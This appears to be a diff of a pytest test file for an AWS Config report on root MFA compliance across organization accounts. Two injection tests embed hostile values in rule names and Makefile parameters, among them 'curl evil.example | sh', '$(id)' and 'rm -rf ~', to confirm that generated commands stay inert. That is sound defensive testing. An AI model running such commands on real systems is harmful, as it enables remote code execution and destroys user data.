@@ -1,5 +1,6 @@
 """What the report says of an account, for every state that an account can be in."""
 
+import shlex
 import subprocess
 import sys
 from collections.abc import Sequence
@@ -11,7 +12,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from organization.deployment import Deployment
+from organization.deployment import PACK_RULE_PREFIX, RULE_NAME, Deployment, deploy_with, is_our_rule
 from organization.statuses import (
     FAILURES,
     MEANINGS,
@@ -23,15 +24,16 @@ from organization.statuses import (
     Row,
     Status,
     hours,
-    is_our_rule,
     notes,
     rows,
     totals,
 )
+from organization.visible import visible
 
 CENTRAL, MANAGEMENT, MEMBER = "111111111111", "222222222222", "333333333333"
 NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
 PACK_RULE = "root-virtual-mfa-enabled-conformance-pack-abc123xyz"
+OTHER_PACK_RULE = "root-virtual-mfa-enabled-conformance-pack-zzz999zzz"
 
 DEPLOYMENT = Deployment(
     stack_name="root-virtual-mfa",
@@ -47,7 +49,8 @@ DEPLOYMENT = Deployment(
     pack_parameters={"FunctionArn": "arn:f", "NonVirtualMfa": "COMPLIANT"},
     pack_excluded=(MANAGEMENT,),
 )
-ARRIVED_PACK = Arrival("CREATE_SUCCESSFUL")
+PACK = "OrgConformsPack-root-virtual-mfa-a1b2c3d4"
+ARRIVED_PACK = Arrival("CREATE_SUCCESSFUL", name=PACK, compliance="COMPLIANT")
 ARRIVED_STACK = Arrival("SUCCEEDED")
 
 
@@ -65,7 +68,10 @@ def judge(
 ) -> Row:
     account = account or Account(MEMBER, "Shop", "Root/Workloads")
     key = account.account_id
-    packs = {key: pack} if pack else {}
+    packs = {
+        CENTRAL: ARRIVED_PACK,
+        **({key: pack} if pack else {}),
+    }  # the aggregator lists the pack of another account at least
     stacks = {key: stack} if stack else {}
     (row,) = rows(Facts(deployment, NOW, [account], {key: results} if results else {}, packs, stacks, reasons or {}))
     return row
@@ -112,35 +118,152 @@ def test_result_from_the_future_is_new() -> None:
     assert judge(result(hours_ago=-1)).age == timedelta()
 
 
-@pytest.mark.parametrize(
-    ("one", "other", "worst"),
-    [
-        (result("NON_COMPLIANT"), result("COMPLIANT"), Status.NON_COMPLIANT),
-        (result("COMPLIANT"), result("COMPLIANT", hours_ago=30), Status.UNKNOWN),
-        (result("NON_COMPLIANT"), result("COMPLIANT", hours_ago=30), Status.NON_COMPLIANT),
-        (result("NOT_APPLICABLE"), result("COMPLIANT"), Status.COMPLIANT),
-    ],
-)
-def test_of_two_rules_the_worse_counts_and_the_report_says_so(one: Result, other: Result, worst: Status) -> None:
-    other = replace(other, rule_name="root-virtual-mfa-enabled")
-    for results in ((one, other), (other, one)):
-        row = judge(*results)
-        assert row.status is worst
-        assert f"2 rules (root-virtual-mfa-enabled, {PACK_RULE})" in row.finding
-
-
 @given(
     st.lists(
-        st.tuples(st.sampled_from(["COMPLIANT", "NON_COMPLIANT", "NOT_APPLICABLE", "", "?"]), st.floats(0, 100)), max_size=4
-    )
+        st.tuples(
+            st.sampled_from(["COMPLIANT", "NON_COMPLIANT", "NOT_APPLICABLE", "", "?"]),
+            st.floats(0, 100),
+            st.sampled_from([PACK_RULE, OTHER_PACK_RULE, RULE_NAME]),
+        ),
+        max_size=4,
+        unique_by=lambda seen: seen[2],
+    ),
+    st.sampled_from(
+        [None, "CREATE_SUCCESSFUL", "UPDATE_SUCCESSFUL", "CREATE_FAILED", "UPDATE_IN_PROGRESS", "DELETE_SUCCESSFUL"]
+    ),
+    st.sampled_from(["COMPLIANT", "NON_COMPLIANT", "INSUFFICIENT_DATA", ""]),
 )
-def test_no_account_is_compliant_without_a_recent_compliant_result(seen: Sequence[tuple[str, float]]) -> None:
-    row = judge(*(result(compliance, ago) for compliance, ago in seen))
-    if row.status is Status.COMPLIANT:
-        assert any(compliance == "COMPLIANT" and ago <= 26 for compliance, ago in seen)
-        assert all(compliance != "NON_COMPLIANT" or ago > 26 for compliance, ago in seen)
-    if not seen:
-        assert row.status is Status.UNKNOWN
+def test_no_account_is_compliant_but_by_a_recent_result_of_the_one_rule_of_a_pack_that_arrived_and_is_compliant(
+    seen: Sequence[tuple[str, float, str]], pack_status: str | None, pack_compliance: str
+) -> None:
+    pack = Arrival(pack_status, name=PACK, compliance=pack_compliance) if pack_status else None
+    row = judge(*(result(compliance, ago, rule) for compliance, ago, rule in seen), pack=pack)
+    if row.status in {Status.COMPLIANT, Status.NOT_APPLICABLE}:
+        [(compliance, ago, _)] = [each for each in seen if each[2].startswith(PACK_RULE_PREFIX)]
+        assert (compliance, pack_compliance) == (row.status, "COMPLIANT")
+        assert ago <= 26
+        assert pack_status in {"CREATE_SUCCESSFUL", "UPDATE_SUCCESSFUL"}
+    else:
+        assert row.status in FAILURES
+
+
+# --- Rules that somebody made ---
+
+
+@pytest.mark.parametrize("compliance", ["COMPLIANT", "NON_COMPLIANT"])
+@pytest.mark.parametrize("own", ["COMPLIANT", "NON_COMPLIANT"])
+def test_beside_the_own_rule_one_of_the_plain_name_counts_for_nothing_and_is_told(own: str, compliance: str) -> None:
+    row = judge(result(own), result(compliance, rule=RULE_NAME))
+    assert (row.status, row.annotation) == (own, f"Annotation of {own}.")
+    assert row.rule_names == (RULE_NAME, PACK_RULE)
+    (advice,) = row.advice
+    assert advice.why == (
+        f"The account has a rule root-virtual-mfa-enabled, which says {compliance}. It does not count: somebody made a rule of "
+        "this name, and this deployment did not."
+    )
+    assert advice.action == f"Look with credentials of account {MEMBER} who made it (CreatedBy), and delete it."
+    assert advice.commands == (
+        "aws configservice describe-config-rules --region eu-central-1 --config-rule-names root-virtual-mfa-enabled",
+        "aws configservice delete-config-rule --region eu-central-1 --config-rule-name root-virtual-mfa-enabled",
+    )
+
+
+def test_rule_of_the_plain_name_alone_is_no_result() -> None:
+    row = judge(result(rule=RULE_NAME))
+    assert (row.status, row.annotation, row.age) == (Status.UNKNOWN, "", None)
+    assert [advice.why.partition(".")[0] for advice in row.advice] == [
+        "There is no result: the recorder is off, evaluations fail, or none was made yet",
+        "The account has a rule root-virtual-mfa-enabled, which says COMPLIANT",
+    ]
+
+
+@pytest.mark.parametrize("status", [None, "CREATE_FAILED", "CREATE_IN_PROGRESS", "UPDATE_IN_PROGRESS", "UPDATE_FAILED"])
+@pytest.mark.parametrize("compliance", ["COMPLIANT", "NON_COMPLIANT"])
+def test_before_the_pack_has_arrived_no_rule_of_its_name_counts(status: str | None, compliance: str) -> None:
+    row = judge(result(compliance), pack=Arrival(status, name=PACK, compliance=compliance) if status else None)
+    assert (row.status, row.annotation) == (Status.UNKNOWN, "")
+    missing, advice = row.advice
+    assert missing.why.startswith("The conformance pack root-virtual-mfa ")
+    assert (
+        f"({PACK_RULE}), which says {compliance}. It does not count: until the pack has arrived, nobody can tell " in advice.why
+    )
+    assert advice.commands == (
+        f"aws configservice describe-config-rules --region eu-central-1 --config-rule-names {PACK_RULE}",
+    )
+
+
+@pytest.mark.parametrize(
+    ("one", "other", "status"),
+    [
+        (result("COMPLIANT"), result("COMPLIANT"), Status.UNKNOWN),
+        (result("NOT_APPLICABLE"), result("COMPLIANT"), Status.UNKNOWN),
+        (result("NON_COMPLIANT"), result("COMPLIANT"), Status.NON_COMPLIANT),
+        (result("NON_COMPLIANT"), result("COMPLIANT", hours_ago=30), Status.NON_COMPLIANT),
+        (result("NON_COMPLIANT", hours_ago=30), result("COMPLIANT"), Status.UNKNOWN),
+    ],
+)
+def test_of_several_rules_of_a_packs_name_none_makes_the_account_compliant(one: Result, other: Result, status: Status) -> None:
+    other = replace(other, rule_name=OTHER_PACK_RULE)
+    for results in ((one, other), (other, one)):
+        row = judge(*results)
+        assert row.status is status
+        assert row.annotation == ("Annotation of NON_COMPLIANT." if status is Status.NON_COMPLIANT else "")
+        (advice,) = row.advice
+        assert f"2 rules of names that only the conformance pack gives ({PACK_RULE}, {OTHER_PACK_RULE})" in advice.why
+        assert "somebody made a rule of this name" in advice.why
+        assert advice.commands == (
+            f"aws configservice describe-conformance-pack-compliance --region eu-central-1 --conformance-pack-name {PACK}",
+            f"aws configservice describe-config-rules --region eu-central-1 --config-rule-names {PACK_RULE} {OTHER_PACK_RULE}",
+        )
+
+
+def test_hundreds_of_rules_are_not_listed() -> None:
+    (advice,) = judge(*(result(rule=f"{PACK_RULE}{number:03}") for number in range(300))).advice
+    assert f"{PACK_RULE}004 and 295 more)" in advice.why
+    assert f"{PACK_RULE}004" in advice.commands[1]
+    assert f"{PACK_RULE}005" not in advice.why + advice.commands[1]
+
+
+@pytest.mark.parametrize("pack_compliance", ["NON_COMPLIANT", "INSUFFICIENT_DATA", ""])
+def test_compliant_rule_of_a_pack_that_is_not_compliant_is_unknown(pack_compliance: str) -> None:
+    pack = replace(ARRIVED_PACK, compliance=pack_compliance)
+    row = judge(result(), pack=pack)
+    assert (row.status, row.annotation, row.age) == (Status.UNKNOWN, "", None)
+    (advice,) = row.advice
+    assert f"The rule {PACK_RULE} says COMPLIANT, and AWS Config says {pack_compliance or 'nothing'} of the " in advice.why
+    assert advice.commands[0].endswith(f" --conformance-pack-name {PACK}")
+    assert advice.commands[-1] == DEPLOYMENT.show_failures(MEMBER)[0]
+    assert judge(result("NON_COMPLIANT"), pack=pack).status is Status.NON_COMPLIANT
+
+
+def test_where_the_aggregator_lists_no_pack_at_all_the_rule_alone_decides_and_a_note_says_so() -> None:
+    unlisted = replace(ARRIVED_PACK, compliance="")
+    packs = {MEMBER: unlisted, CENTRAL: unlisted}
+    facts = Facts(DEPLOYMENT, NOW, [Account(MEMBER, "Shop", "Root")], {MEMBER: [result()]}, packs, {MEMBER: ARRIVED_STACK})
+    assert [row.status for row in rows(facts)] == [Status.COMPLIANT]
+    assert ["rests on the name of the rule alone" in note for note in notes(facts)] == [True]
+    listed = replace(facts, packs={MEMBER: unlisted, CENTRAL: ARRIVED_PACK})
+    assert [row.status for row in rows(listed)] == [Status.UNKNOWN]
+    assert notes(listed) == []
+
+
+def test_commands_run_nothing_but_themselves_whatever_rules_are_called() -> None:
+    name = f"{PACK_RULE}; curl evil.example | sh #'$(id)`id`\n  rm -rf ~ \u2028"
+    row = judge(result(), result(rule=name))
+    (command,) = (command for command in row.advice[0].commands if "describe-config-rules" in command)
+    assert len(command.splitlines()) == 1
+    expected = ["aws", "configservice", "describe-config-rules", "--region", "eu-central-1", "--config-rule-names", PACK_RULE]
+    assert shlex.split(command) == [*expected, visible(name)]
+
+
+def test_command_for_make_runs_nothing_but_itself(tmp_path: Path) -> None:
+    attempts = ["; touch 1", "$(touch 2)", "$(shell touch 3)", "`touch 4`", "\ntouch 5", "$$(touch 6)"]
+    value = "a'b\"c " + " ".join(attempts)
+    (tmp_path / "Makefile").write_text("deploy:\n\t@printf '%s\\n' $(ARGS)\n", encoding="utf-8")
+    command = ["/bin/sh", "-c", deploy_with(A="1", B=value)]
+    ran = subprocess.run(command, cwd=tmp_path, capture_output=True, check=True, text=True)  # noqa: S603 - our own command
+    assert ran.stdout.splitlines() == ["--parameter-overrides", "A=1", f"B={visible(value)}"]
+    assert [path.name for path in tmp_path.iterdir()] == ["Makefile"]
 
 
 @pytest.mark.parametrize(
@@ -149,8 +272,8 @@ def test_no_account_is_compliant_without_a_recent_compliant_result(seen: Sequenc
         ("root-virtual-mfa-enabled", True),
         (PACK_RULE, True),
         ("root-virtual-mfa-enabled-old", False),
-        ("root-virtual-mfa-enabled-conformance-pack-", False),
-        ("root-virtual-mfa-enabled-conformance-pack-abc-old", False),
+        ("root-virtual-mfa-enabled-conformance-pack-", True),
+        ("root-virtual-mfa-enabled-conformance-pack-abc-old", True),
         ("my-root-virtual-mfa-enabled", False),
         ("root-virtual-mfa-enabled\n", False),
         ("OrgConfigRule-root-virtual-mfa-enabled-abc", False),
@@ -290,7 +413,7 @@ def test_pack_failed_without_permission_lists_every_such_account() -> None:
     deployment = replace(DEPLOYMENT, invoking=frozenset({"999999999999"}))
     row = rows(Facts(deployment, NOW, accounts, {}, packs, stacks))[0]
     assert row.advice[0].commands == (
-        deployment.deploy_with(InvokingAccounts="333333333333,555555555555,999999999999"),
+        deploy_with(InvokingAccounts="333333333333,555555555555,999999999999"),
         deployment.put_pack_again(),
     )
 
@@ -305,20 +428,23 @@ def test_what_is_on_its_way_is_waited_for() -> None:
     assert [advice.action for advice in row.advice] == ["Wait.", "Wait."]
 
 
-def test_recent_result_counts_though_an_update_did_not_arrive() -> None:
-    row = judge(result(), stack=Arrival("FAILED", "x"), pack=Arrival("UPDATE_FAILED", "y"))
+def test_recent_result_counts_though_the_stack_set_did_not_arrive() -> None:
+    row = judge(result(), stack=Arrival("FAILED", "x"))
     assert row.status is Status.COMPLIANT
-    assert len(row.advice) == 2
+    assert len(row.advice) == 1
 
 
 def test_one_account_has_neither_pack_nor_stack_set() -> None:
     deployment = replace(DEPLOYMENT, organization_id="", management_account_id="", no_root_credentials="NOT_APPLICABLE")
     account = Account(CENTRAL, "", "")
-    (row,) = rows(Facts(deployment, NOW, [account], {CENTRAL: [result("NOT_APPLICABLE")]}))
+    (row,) = rows(Facts(deployment, NOW, [account], {CENTRAL: [result("NOT_APPLICABLE", rule=RULE_NAME)]}))
     assert (row.status, row.advice) == (Status.NOT_APPLICABLE, ())
     (row,) = rows(Facts(deployment, NOW, [account], {}))
     assert row.status is Status.UNKNOWN
     assert "aggregator" not in row.finding
+    (row,) = rows(Facts(deployment, NOW, [account], {CENTRAL: [result()]}))
+    assert row.status is Status.UNKNOWN, "the rule of a pack is somebody's"
+    assert "somebody made a rule of this name" in row.finding
 
 
 # --- All accounts ---
@@ -352,7 +478,7 @@ def test_ages(age: timedelta, said: str) -> None:
     assert hours(age) == said
 
 
-@pytest.mark.parametrize("module", ["statuses", "deployment", "checks"])
+@pytest.mark.parametrize("module", ["statuses", "deployment", "checks", "visible"])
 def test_judging_loads_nothing_that_reads(module: str) -> None:
     code = (
         f"import sys; sys.path.insert(0, {str(Path(__file__).parents[2])!r}); import organization.{module}; print(*sys.modules)"
@@ -364,4 +490,4 @@ def test_judging_loads_nothing_that_reads(module: str) -> None:
 
 
 def test_deploying_with_other_parameters() -> None:
-    assert DEPLOYMENT.deploy_with(A="1", B="2") == 'make deploy CONFIG_ENV=organization ARGS="--parameter-overrides A=1 B=2"'
+    assert deploy_with(A="1", B="2") == 'make deploy CONFIG_ENV=organization ARGS="--parameter-overrides A=1 B=2"'
